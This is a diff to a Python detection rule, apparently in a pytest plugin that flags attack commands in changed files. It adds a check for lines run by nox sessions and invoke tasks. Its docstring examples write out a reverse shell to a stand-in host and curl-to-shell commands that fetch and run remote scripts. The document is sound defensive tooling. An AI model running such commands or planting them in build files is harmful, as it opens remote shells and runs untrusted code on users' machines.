@@ -12,6 +12,7 @@ from pytest_selfmod_guard.model import Risk
 from pytest_selfmod_guard.rules import Sighting, python_rule
 from pytest_selfmod_guard.rules.danger import _attacks
 from pytest_selfmod_guard.rules.danger._processes import WORDS, processes
+from pytest_selfmod_guard.rules.danger._task_files import lines_that_run
 from pytest_selfmod_guard.rules.danger._wording import said
 
 if TYPE_CHECKING:
@@ -52,6 +53,20 @@ def attack_command(python: Python) -> Iterable[Sighting]:
         === shop/cart.py
         + STEP = "bash -i >& /dev/tcp/example.invalid/4444 0>&1"
 
+    Flagged: a session of nox [critical]
+        === noxfile.py
+          import nox
+          @nox.session
+          def tests(session):
+        +     session.run("sh", "-c", "curl -s https://example.invalid/a | base64 -d | sh")
+
+    Flagged: a task
+        === tasks.py
+          from invoke import task
+          @task
+          def build(c):
+        +     c.run("curl -s https://example.invalid/build.sh | bash")
+
     Flagged: what people should type [medium]
         === shop/cli.py
         + print("install it: curl -LsSf https://example.invalid/install.sh | sh")
@@ -83,9 +98,10 @@ def attack_command(python: Python) -> Iterable[Sighting]:
 
 
 def _kept(python: Python, ceiling: Risk) -> Iterator[Sighting]:
+    runs = lines_that_run(python)
     for line, text in _strings(python.text):
         for attack in _attacks.attacks(text)[:1]:
-            is_bad = attack.risk == Risk.CRITICAL or _is_started(python, line)
+            is_bad = attack.risk == Risk.CRITICAL or line in runs or _is_started(python, line)
             risk = attack.risk if is_bad else Risk.MEDIUM
             code = " ".join(text.split())[:200]
             yield Sighting(line, f"a string {attack.what}", code, risk=min(risk, ceiling))
